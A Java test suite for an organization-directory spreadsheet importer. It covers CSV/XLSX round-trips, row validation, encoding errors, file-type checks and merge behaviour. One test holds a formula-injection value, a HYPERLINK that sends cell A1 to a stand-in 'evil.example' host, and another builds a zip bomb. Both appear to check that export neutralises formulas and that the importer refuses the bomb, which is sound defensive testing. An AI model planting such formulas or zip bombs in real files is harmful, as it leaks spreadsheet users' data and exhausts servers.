package org.synergies.organizations;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;

import com.tngtech.archunit.core.domain.JavaClasses;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.lang.syntax.ArchRuleDefinition;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.synergies.organizations.ImportRow.Outcome;
import org.synergies.files.SampleFiles;
import org.synergies.organizations.internal.SpreadsheetReader;
import org.synergies.organizations.internal.SpreadsheetWriter;
import org.synergies.shared.FieldProblem;
import org.synergies.shared.Language;
import org.synergies.shared.RuleViolationException;
import org.synergies.support.DatabaseTest;
import org.synergies.support.TestOrganizations;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

@SpringBootTest
@DatabaseTest
class OrganizationImportTests {

	static final String HEADER = "official_name,acronym,kind,headquarters,countries,instruments,species_groups\n";

	@Autowired
	OrganizationImports imports;

	@Autowired
	OrganizationManagement organizations;

	@Test
	void anExportedFileImportsBackAsMatchesWithoutChange() throws Exception {
		String tag = TestOrganizations.unique();
		for (String name : List.of("Alpha Réseau ", "Beta Ñandú Trust ", "Gamma 中文 Network ")) {
			this.organizations.register(TestOrganizations.ngo(name + tag));
		}
		DirectoryQuery query = new DirectoryQuery(tag, null, null, null, OrganizationStatus.ACTIVE,
				DirectoryQuery.Sort.NAME, 0, 100);

		ByteArrayOutputStream csv = new ByteArrayOutputStream();
		SpreadsheetWriter.csv(action -> this.organizations.forEach(query, action), csv);
		ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
		SpreadsheetWriter.xlsx(action -> this.organizations.forEach(query, action), "organizations", xlsx);

		for (ImportPreview preview : List.of(this.imports.preview("export.csv", csv.toByteArray()),
				this.imports.preview("export.xlsx", xlsx.toByteArray()))) {
			assertThat(preview.rows()).hasSize(3).allSatisfy(row -> {
				assertThat(row.outcome()).isEqualTo(Outcome.MATCH);
				assertThat(row.changes()).isEmpty();
			});
			assertThat(preview.rows()).extracting(ImportRow::officialName)
				.containsExactly("Alpha Réseau " + tag, "Beta Ñandú Trust " + tag, "Gamma 中文 Network " + tag);
		}
	}

	@Test
	void thePreviewWritesNothingAndSaysWhyEachInvalidRowIsRefused() {
		String tag = TestOrganizations.unique();
		String file = HEADER + "New Flyway Partners " + tag + ",NFP" + tag + ",INTERNATIONAL_NGO,KE,KE;TZ,AEWA,BIRDS\n"
				+ "Broken Country " + tag + ",,NATIONAL_NGO,XX,,,\n" + "Odd Kind " + tag + ",,CLUB,,,,\n"
				+ ",,YOUTH,,,,\n";

		ImportPreview preview = this.imports.preview("partners.csv", file.getBytes(StandardCharsets.UTF_8));

		assertThat(preview.rows()).extracting(ImportRow::line, ImportRow::outcome)
			.containsExactly(org.assertj.core.groups.Tuple.tuple(2, Outcome.NEW),
					org.assertj.core.groups.Tuple.tuple(3, Outcome.INVALID),
					org.assertj.core.groups.Tuple.tuple(4, Outcome.INVALID),
					org.assertj.core.groups.Tuple.tuple(5, Outcome.INVALID));
		assertThat(preview.rows().get(1).problems()).extracting(FieldProblem::messageKey)
			.containsExactly("validation.country");
		assertThat(preview.rows().get(2).problems()).extracting(FieldProblem::messageKey)
			.contains("import.problem.kind");
		assertThat(preview.rows().get(3).problems()).extracting(FieldProblem::messageKey)
			.contains("validation.required");
		assertThat(directory(tag)).as("nothing written before confirmation").isEmpty();
	}

	@Test
	void aLatin1LineIsReportedNeverSavedAsMojibake() {
		String tag = TestOrganizations.unique();
		byte[] good = (HEADER + "Good Line " + tag + ",,NATIONAL_NGO,,,,\n").getBytes(StandardCharsets.UTF_8);
		byte[] latin1 = ("Société Latine " + tag + ",,NATIONAL_NGO,FR,,,\n").getBytes(StandardCharsets.ISO_8859_1);
		byte[] file = concat(good, latin1);

		ImportPreview preview = this.imports.preview("mixed.csv", file);
		assertThat(preview.rows().get(1).outcome()).isEqualTo(Outcome.INVALID);
		assertThat(preview.rows().get(1).problems()).extracting(FieldProblem::messageKey)
			.containsExactly("import.problem.encoding");

		ImportResult result = this.imports.apply(preview.id(), ImportPreview.Mode.VALID_ROWS);
		assertThat(result).isEqualTo(new ImportResult(1, 0, 1));
		assertThat(directory(tag)).containsExactly("Good Line " + tag);
	}

	@Test
	void allOrNothingRefusesAFileWithAnInvalidRowAndValidRowsImportsTheRest() {
		String tag = TestOrganizations.unique();
		String file = HEADER + "Kept Partner " + tag + ",,NATIONAL_NGO,,,,\n" + "Bad Partner " + tag
				+ ",,NATIONAL_NGO,,,NOT_AN_INSTRUMENT,\n";
		ImportPreview preview = this.imports.preview("partners.csv", file.getBytes(StandardCharsets.UTF_8));

		assertThatThrownBy(() -> this.imports.apply(preview.id(), ImportPreview.Mode.ALL_OR_NOTHING))
			.isInstanceOf(RuleViolationException.class)
			.hasMessage("import.rule.invalid-rows");
		assertThat(directory(tag)).isEmpty();

		assertThat(this.imports.apply(preview.id(), ImportPreview.Mode.VALID_ROWS))
			.isEqualTo(new ImportResult(1, 0, 1));
		assertThat(directory(tag)).containsExactly("Kept Partner " + tag);
		assertThatThrownBy(() -> this.imports.apply(preview.id(), ImportPreview.Mode.VALID_ROWS))
			.hasMessage("import.rule.already-applied");
	}

	@Test
	void aMatchingRowFillsInAndChangesValuesButAnEmptyCellKeepsThem() {
		String tag = TestOrganizations.unique();
		OrganizationView existing = this.organizations.register(new OrganizationDetails("Match Me " + tag, null, null,
				null, "MM" + tag.substring(0, 4), OrganizationKind.NATIONAL_NGO, "FR", Set.of(), "https://old.example",
				null, null, null, Set.of("CMS"), Set.of()));
		String file = "official_name,acronym,kind,website,name_fr\n" + "Match Me " + tag + ",,,https://new.example,"
				+ "Trouve-moi " + tag + "\n";

		ImportPreview preview = this.imports.preview("update.csv", file.getBytes(StandardCharsets.UTF_8));
		assertThat(preview.rows()).singleElement().satisfies(row -> {
			assertThat(row.outcome()).isEqualTo(Outcome.MATCH);
			assertThat(row.match()).isEqualTo(existing.id());
			assertThat(row.changes()).containsExactlyInAnyOrder("name_fr", "website");
		});

		this.imports.apply(preview.id(), ImportPreview.Mode.ALL_OR_NOTHING);
		OrganizationView updated = this.organizations.find(existing.id()).orElseThrow();
		assertThat(updated.website()).isEqualTo("https://new.example");
		assertThat(updated.nameFr()).isEqualTo("Trouve-moi " + tag);
		assertThat(updated.headquarters()).as("an empty cell keeps the value").isEqualTo("FR");
		assertThat(updated.instruments()).containsExactly("CMS");
	}

	@Test
	void theSameOrganizationTwiceInAFileIsCaught() {
		String tag = TestOrganizations.unique();
		String file = HEADER + "Twice " + tag + ",,NATIONAL_NGO,,,,\n" + "twice " + tag + ",,NATIONAL_NGO,,,,\n";

		ImportPreview preview = this.imports.preview("twice.csv", file.getBytes(StandardCharsets.UTF_8));

		assertThat(preview.rows()).extracting(ImportRow::outcome).containsExactly(Outcome.NEW, Outcome.INVALID);
	}

	@Test
	void cellsThatLookLikeFormulasAreExportedInertAndImportBackUnchanged() throws Exception {
		String tag = TestOrganizations.unique();
		String name = "=HYPERLINK(\"https://evil.example/\"&A1,\"Open\") " + tag;
		OrganizationDetails details = TestOrganizations.ngo(name);
		this.organizations.register(new OrganizationDetails(details.officialName(), "-1+2 " + tag, null, null, null,
				details.kind(), details.headquarters(), details.countries(), details.website(), details.publicEmail(),
				"@SUM(A1:A9)", Language.EN, details.instruments(), details.speciesGroups()));
		DirectoryQuery query = new DirectoryQuery(tag, null, null, null, OrganizationStatus.ACTIVE,
				DirectoryQuery.Sort.NAME, 0, 100);
		ByteArrayOutputStream csv = new ByteArrayOutputStream();
		SpreadsheetWriter.csv(action -> this.organizations.forEach(query, action), csv);
		ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
		SpreadsheetWriter.xlsx(action -> this.organizations.forEach(query, action), "organizations", xlsx);

		assertThat(csv.toString(StandardCharsets.UTF_8)).contains("\"'=HYPERLINK(", ",'-1+2 ", ",'@SUM(A1:A9),")
			.doesNotContain(",=HYPERLINK", ",-1+2", ",@SUM");
		for (ImportPreview preview : List.of(this.imports.preview("export.csv", csv.toByteArray()),
				this.imports.preview("export.xlsx", xlsx.toByteArray()))) {
			assertThat(preview.rows()).singleElement().satisfies(row -> {
				assertThat(row.outcome()).isEqualTo(Outcome.MATCH);
				assertThat(row.changes()).isEmpty();
				assertThat(row.officialName()).isEqualTo(name);
			});
		}
	}

	@Test
	void aWorkbookThatWouldExpandBeyondTheLimitsIsRefusedAsAZipBomb() throws Exception {
		String tag = TestOrganizations.unique();
		this.organizations.register(TestOrganizations.ngo("Delta Trust " + tag));
		ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
		SpreadsheetWriter.xlsx(action -> this.organizations.forEach(
				new DirectoryQuery(tag, null, null, null, OrganizationStatus.ACTIVE, DirectoryQuery.Sort.NAME, 0, 100),
				action), "organizations", xlsx);
		byte[] bomb = SampleFiles.withBomb(xlsx.toByteArray(), "xl/media/padding.bin", 50);

		assertThat(this.imports.preview("export.xlsx", xlsx.toByteArray()).rows()).hasSize(1);
		assertThat(bomb.length).isLessThan(SpreadsheetReader.MAX_BYTES);
		assertThatThrownBy(() -> this.imports.preview("export.xlsx", bomb))
			.isInstanceOfSatisfying(RuleViolationException.class, refused -> {
				assertThat(refused.messageKey()).isEqualTo("import.file.expands-too-much");
				assertThat(refused.arguments()).containsExactly(1_000, 100L, 100);
			});
	}

	@Test
	void aWorkbookIsReadAsAStreamOfRowsNeverLoadedWhole() {
		JavaClasses reader = new ClassFileImporter().importPackagesOf(SpreadsheetReader.class,
				org.synergies.documents.SpreadsheetReader.class);
		ArchRuleDefinition.noClasses()
			.that()
			.haveNameMatching(".*\\.SpreadsheetReader(\\$.*)?")
			.should()
			.dependOnClassesThat()
			.haveFullyQualifiedName("org.apache.poi.xssf.usermodel.XSSFWorkbook")
			.orShould()
			.dependOnClassesThat()
			.haveFullyQualifiedName("org.apache.poi.ss.usermodel.WorkbookFactory")
			.orShould()
			.dependOnClassesThat()
			.haveFullyQualifiedName("org.apache.poi.ss.usermodel.Workbook")
			.because("a workbook of thousands of rows is read row by row (POI's event API)")
			.check(reader);
	}

	@Test
	void filesThatAreNotWhatTheyClaimAreRefused() {
		byte[] pdf = "%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n".getBytes(StandardCharsets.ISO_8859_1);
		byte[] text = (HEADER + "A,,YOUTH,,,,\n").getBytes(StandardCharsets.UTF_8);
		byte[] brokenZip = { 'P', 'K', 3, 4, 0, 0, 0, 0, 1, 2, 3 };

		assertThatThrownBy(() -> this.imports.preview("list.xlsx", text)).hasMessage("import.file.not-xlsx");
		assertThatThrownBy(() -> this.imports.preview("list.csv", pdf)).hasMessage("import.file.not-csv");
		assertThatThrownBy(() -> this.imports.preview("list.csv", brokenZip)).hasMessage("import.file.not-csv");
		assertThatThrownBy(() -> this.imports.preview("list.xlsx", brokenZip)).hasMessage("import.file.malformed-xlsx");
		assertThatThrownBy(() -> this.imports.preview("list.pdf", pdf)).hasMessage("import.file.type");
		assertThatThrownBy(() -> this.imports.preview("list.csv", new byte[0])).hasMessage("import.file.empty");
		assertThatThrownBy(() -> this.imports.preview("list.csv", new byte[5 * 1024 * 1024 + 1]))
			.hasMessage("import.file.too-large");
		assertThatThrownBy(() -> this.imports.preview("list.csv", "name,country\nA,DE\n".getBytes()))
			.hasMessage("import.file.no-header");
		assertThatThrownBy(() -> this.imports.preview("list.csv",
				(HEADER + "\"unclosed quote,,YOUTH\n").getBytes(StandardCharsets.UTF_8)))
			.hasMessage("import.file.malformed-csv");
	}

	@Test
	void aSemicolonSeparatedFileFromAFrenchExcelIsRead() {
		String tag = TestOrganizations.unique();
		String file = "\uFEFFofficial_name;kind;countries\n" + "Association Française " + tag + ";NATIONAL_NGO;FR,BE\n";

		ImportPreview preview = this.imports.preview("export-fr.csv", file.getBytes(StandardCharsets.UTF_8));

		assertThat(preview.rows()).singleElement().satisfies(row -> {
			assertThat(row.outcome()).isEqualTo(Outcome.NEW);
			assertThat(row.officialName()).isEqualTo("Association Française " + tag);
		});
	}

	private List<String> directory(String tag) {
		return this.organizations
			.directory(new DirectoryQuery(tag, null, null, null, OrganizationStatus.ACTIVE, DirectoryQuery.Sort.NAME, 0,
					50))
			.organizations()
			.stream()
			.map(OrganizationSummary::officialName)
			.toList();
	}

	private static byte[] concat(byte[] first, byte[] second) {
		byte[] result = new byte[first.length + second.length];
		System.arraycopy(first, 0, result, 0, first.length);
		System.arraycopy(second, 0, result, first.length, second.length);
		return result;
	}

}
